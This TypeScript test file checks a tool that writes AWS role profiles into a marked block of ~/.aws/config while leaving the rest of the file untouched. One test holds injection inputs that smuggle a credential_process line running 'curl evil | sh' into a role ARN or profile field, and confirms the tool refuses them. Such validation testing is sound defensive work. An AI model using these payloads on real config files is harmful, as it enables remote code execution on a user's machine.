// Discovered roles written into ~/.aws/config inside the marked block: written, updated and pruned without
// touching a byte outside it, read back by the SDK's ini loader and by the real AWS CLI.
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { promisify } from 'node:util';
import { loadSharedConfigFiles } from '@smithy/shared-ini-file-loader';
import { loadAwsConfig } from '../../../src/core/aws/config';
import {
  BLOCK_END,
  BLOCK_START,
  type BlockPlan,
  planBlock,
  readBlock,
  readConfigText,
  writeConfigBlock,
} from '../../../src/core/aws/configBlock';
import { buildCatalog } from '../../../src/core/catalog/roleCatalog';
import { UserError } from '../../../src/core/userError';

const run = promisify(execFile);
const PROD_RO = 'arn:aws:iam::333333333333:role/ReadOnly';
const PROD_ADMIN = 'arn:aws:iam::333333333333:role/Admin';
const DEV_RO = 'arn:aws:iam::222222222222:role/ReadOnly';
const ALIASES = new Map([
  ['222222222222', 'dev'],
  ['333333333333', 'prod'],
]);
const USER_TEXT =
  '# my own notes\n[default]\nregion = eu-west-1\n\n[profile prod-ReadOnly]\nrole_arn = arn:aws:iam::333333333333:role/ReadOnly\nsource_profile = default\n';

let dir: string;
before(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'config-block-'));
});
after(() => fs.rmSync(dir, { recursive: true, force: true }));

let counter = 0;
function configFile(text?: string, mode = 0o640): string {
  const file = path.join(dir, `config-${++counter}`);
  if (text !== undefined) {
    fs.writeFileSync(file, text);
    fs.chmodSync(file, mode);
  }
  return file;
}

async function plan(file: string, wanted: Parameters<typeof planBlock>[1], reservedNames: string[] = []): Promise<BlockPlan> {
  return planBlock(await readConfigText(file), wanted, { accountAliases: ALIASES, reservedNames });
}

/** The text with the block (if any) cut out. */
function outside(text: string): string {
  const start = text.indexOf(BLOCK_START);
  if (start < 0) return text;
  const end = text.indexOf('\n', text.indexOf(BLOCK_END)) + 1;
  return text.slice(0, start) + text.slice(end);
}

describe('the managed block in ~/.aws/config', () => {
  test('a new file is created 0600 with only names, role ARNs, source_profile and mfa_serial', async () => {
    const file = path.join(dir, 'new-home', '.aws', 'config');
    const p = await plan(file, [
      { roleArn: PROD_ADMIN, sourceProfile: 'bob', mfaSerial: 'arn:aws:iam::111111111111:mfa/bob' },
      { roleArn: DEV_RO, sourceProfile: 'default' },
    ]);
    assert.equal(p.before, undefined);
    assert.match(p.diff, /^--- \/dev\/null\n\+\+\+ b\/~\/\.aws\/config\n@@ -0,0 \+1,10 @@\n/);
    await writeConfigBlock(file, p);
    assert.equal(fs.statSync(file).mode & 0o777, 0o600);
    assert.equal(
      fs.readFileSync(file, 'utf8'),
      [
        BLOCK_START,
        '[profile prod-admin]',
        `role_arn = ${PROD_ADMIN}`,
        'source_profile = bob',
        'mfa_serial = arn:aws:iam::111111111111:mfa/bob',
        '',
        '[profile dev-readonly]',
        `role_arn = ${DEV_RO}`,
        'source_profile = default',
        BLOCK_END,
        '',
      ].join('\n'),
    );
  });

  test('added to an existing file: every byte before it stays, the mode stays, and the diff applies with patch', async () => {
    const file = configFile(USER_TEXT, 0o640);
    const p = await plan(file, [{ roleArn: DEV_RO, sourceProfile: 'default' }]);
    fs.writeFileSync(path.join(dir, 'change.diff'), p.diff);
    const copy = configFile(USER_TEXT);
    await run('/usr/bin/patch', ['--quiet', copy, path.join(dir, 'change.diff')]);
    await writeConfigBlock(file, p);
    const written = fs.readFileSync(file, 'utf8');
    assert.equal(written, fs.readFileSync(copy, 'utf8'), 'the diff shown is the change written');
    assert.ok(written.startsWith(USER_TEXT));
    assert.equal(outside(written), USER_TEXT);
    assert.equal(fs.statSync(file).mode & 0o777, 0o640);
  });

  test('re-running replaces and prunes only the block, keeps names, and leaves text after it byte-exact', async () => {
    const tail = '\n[profile later]\nregion = us-west-2\n';
    const file = configFile(USER_TEXT);
    await writeConfigBlock(
      file,
      await plan(file, [
        { roleArn: DEV_RO, sourceProfile: 'default', name: 'dev ro (mine)' },
        { roleArn: PROD_ADMIN, sourceProfile: 'default' },
      ]),
    );
    fs.appendFileSync(file, tail);
    const first = fs.readFileSync(file, 'utf8');
    const p = await plan(file, [
      { roleArn: PROD_ADMIN, sourceProfile: 'default' },
      { roleArn: 'arn:aws:iam::444444444444:role/Ops', sourceProfile: 'default' },
    ]);
    assert.deepEqual(p.removed, ['dev-ro-mine']);
    assert.deepEqual(p.added, ['444444444444-ops']);
    assert.deepEqual(
      p.profiles.map((x) => x.name),
      ['prod-admin', '444444444444-ops'],
    );
    await writeConfigBlock(file, p);
    const second = fs.readFileSync(file, 'utf8');
    assert.equal(outside(second), outside(first));
    assert.ok(second.startsWith(USER_TEXT) && second.endsWith(tail));
    assert.deepEqual(
      readBlock(second).map((x) => x.roleArn),
      [PROD_ADMIN, 'arn:aws:iam::444444444444:role/Ops'],
    );
    // Nothing chosen: the block goes and the file is what it was before it, plus the later text.
    await writeConfigBlock(file, await plan(file, []));
    assert.equal(fs.readFileSync(file, 'utf8'), USER_TEXT + tail);
  });

  test('pruning a block appended to a file without a final newline leaves only that newline behind', async () => {
    const text = '[default]\r\nregion = eu-west-1';
    const file = configFile(text);
    const p = await plan(file, [{ roleArn: DEV_RO, sourceProfile: 'default' }]);
    assert.match(p.diff, /\\ No newline at end of file/);
    await writeConfigBlock(file, p);
    const written = fs.readFileSync(file, 'utf8');
    assert.ok(written.startsWith(`${text}\r\n${BLOCK_START}\r\n`), 'CRLF files get CRLF lines');
    await writeConfigBlock(file, await plan(file, []));
    assert.equal(fs.readFileSync(file, 'utf8'), `${text}\r\n`);
  });

  test('names are sanitized and never clash with profiles outside the block or in the credentials file', async () => {
    const file = configFile(USER_TEXT);
    const p = await plan(
      file,
      [
        { roleArn: PROD_RO, sourceProfile: 'default' },
        { roleArn: PROD_RO, sourceProfile: 'bob' },
        { roleArn: DEV_RO, sourceProfile: 'default', name: 'default' },
        { roleArn: 'arn:aws:iam::333333333333:role/team/Deploy', sourceProfile: 'default', name: '[prod] deploy]' },
      ],
      ['prod-readonly-2'],
    );
    // prod-ReadOnly is outside the block, prod-readonly-2 in the credentials file: case does not make a new name.
    assert.deepEqual(
      p.profiles.map((x) => x.name),
      ['prod-readonly-3', 'prod-readonly-4', 'role-default', 'prod-deploy'],
    );
  });

  test('the SDK ini loader, our catalog and the real AWS CLI read the written profiles', async () => {
    const file = configFile(USER_TEXT);
    await writeConfigBlock(
      file,
      await plan(file, [
        { roleArn: DEV_RO, sourceProfile: 'default' },
        { roleArn: PROD_ADMIN, sourceProfile: 'default', mfaSerial: 'arn:aws:iam::111111111111:mfa/bob' },
      ]),
    );
    const credentials = configFile('');
    const { configFile: ini } = await loadSharedConfigFiles({ configFilepath: file, filepath: credentials, ignoreCache: true });
    assert.equal(ini['dev-readonly']?.role_arn, DEV_RO);
    assert.equal(ini['prod-admin']?.mfa_serial, 'arn:aws:iam::111111111111:mfa/bob');
    assert.equal(ini['prod-ReadOnly']?.role_arn, PROD_RO, 'the profiles outside the block still read');
    const catalog = buildCatalog({ profiles: (await loadAwsConfig({ configPath: file, credentialsPath: credentials })).profiles });
    const devRole = catalog.roles.find((r) => r.label === 'dev-readonly');
    assert.deepEqual([devRole?.arn, devRole?.source, devRole?.warnings], [DEV_RO, { kind: 'profile', profile: 'default' }, []]);
    const env = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: dir, AWS_CONFIG_FILE: file, AWS_SHARED_CREDENTIALS_FILE: credentials };
    const { stdout } = await run('/usr/bin/aws', ['configure', 'list-profiles'], { env });
    assert.deepEqual(stdout.trim().split('\n').sort(), ['default', 'dev-readonly', 'prod-ReadOnly', 'prod-admin']);
    const { stdout: arn } = await run('/usr/bin/aws', ['configure', 'get', 'role_arn', '--profile', 'prod-admin'], { env });
    assert.equal(arn.trim(), PROD_ADMIN);
  });

  test('broken markers and a file changed after the diff are refused with a sentence', async () => {
    assert.throws(
      () => planBlock(`${BLOCK_START}\n[profile x]\n`, []),
      (e: unknown) => e instanceof UserError && e.code === 'BrokenManagedBlock',
    );
    assert.throws(
      () => planBlock(`${BLOCK_END}\n${BLOCK_START}\n`, []),
      (e: unknown) => e instanceof UserError && e.code === 'BrokenManagedBlock',
    );
    const file = configFile(USER_TEXT);
    const p = await plan(file, [{ roleArn: DEV_RO, sourceProfile: 'default' }]);
    fs.appendFileSync(file, '# edited meanwhile\n');
    await assert.rejects(writeConfigBlock(file, p), (e: unknown) => e instanceof UserError && e.code === 'ConfigChanged');
    assert.ok(fs.readFileSync(file, 'utf8').endsWith('# edited meanwhile\n'));
  });

  test('a role a profile outside the block already offers, from any source, is skipped, not written twice', async () => {
    const file = configFile(USER_TEXT);
    await writeConfigBlock(file, await plan(file, [{ roleArn: DEV_RO, sourceProfile: 'default' }]));
    const config = await loadAwsConfig({ configPath: file, credentialsPath: configFile('') });
    const p = planBlock(
      await readConfigText(file),
      [
        { roleArn: PROD_RO, sourceProfile: 'default' },
        { roleArn: PROD_RO, sourceProfile: 'bob' },
        { roleArn: DEV_RO, sourceProfile: 'default' },
      ],
      { accountAliases: ALIASES, existingProfiles: config.profiles.values() },
    );
    // prod-ReadOnly's source is not bob: a prod-readonly-2 from bob would still be a second profile for one role.
    assert.deepEqual(p.skipped, [{ roleArn: PROD_RO, profile: 'prod-ReadOnly' }]);
    assert.deepEqual(
      p.profiles.map((x) => [x.name, x.sourceProfile]),
      [['dev-readonly', 'default']],
    );
  });

  test('planning the block it already holds changes nothing', async () => {
    const file = configFile(USER_TEXT);
    const wanted = [{ roleArn: DEV_RO, sourceProfile: 'default' }];
    await writeConfigBlock(file, await plan(file, wanted));
    const again = await plan(file, wanted);
    assert.equal(again.changed, false);
    assert.equal(again.diff, '');
  });

  test('a value with a newline or another non-name character is refused before anything is written', async () => {
    const file = configFile(USER_TEXT);
    const bad = [
      { roleArn: `${DEV_RO}\n[default]\ncredential_process = sh -c 'curl evil | sh'`, sourceProfile: 'default' },
      { roleArn: DEV_RO, sourceProfile: 'default\n[default]\ncredential_process = evil' },
      { roleArn: DEV_RO, sourceProfile: 'default', mfaSerial: 'arn:aws:iam::111111111111:mfa/bob\n[default]' },
      { roleArn: ` ${DEV_RO}`, sourceProfile: 'default' },
    ];
    for (const request of bad) {
      assert.throws(
        () => planBlock(USER_TEXT, [request]),
        (e: unknown) =>
          e instanceof UserError && e.code === 'InvalidProfileValue' && e.message.startsWith('Not written to ~/.aws/config: the '),
        JSON.stringify(request),
      );
    }
    assert.equal(fs.readFileSync(file, 'utf8'), USER_TEXT);
    // A hardware token's serial and names with @ + = , pass.
    assert.equal(planBlock(USER_TEXT, [{ roleArn: DEV_RO, sourceProfile: 'me@corp+ci', mfaSerial: 'GAHT12345678' }]).profiles.length, 1);
  });

  test('two writes in the same millisecond each use a temporary file of their own, and none is left behind', async () => {
    const file = configFile(USER_TEXT);
    const [one, two] = await Promise.all([
      plan(file, [{ roleArn: DEV_RO, sourceProfile: 'default' }]),
      plan(file, [{ roleArn: PROD_ADMIN, sourceProfile: 'default' }]),
    ]);
    const now = Date.now;
    Date.now = () => 1_700_000_000_000;
    try {
      const results = await Promise.allSettled([writeConfigBlock(file, one), writeConfigBlock(file, two)]);
      assert.deepEqual(
        results.map((r) => r.status),
        ['fulfilled', 'fulfilled'],
      );
    } finally {
      Date.now = now;
    }
    assert.ok([one.after, two.after].includes(fs.readFileSync(file, 'utf8')));
    assert.deepEqual(
      fs.readdirSync(dir).filter((f) => f.startsWith(path.basename(file)) && f.endsWith('.tmp')),
      [],
    );
  });
});
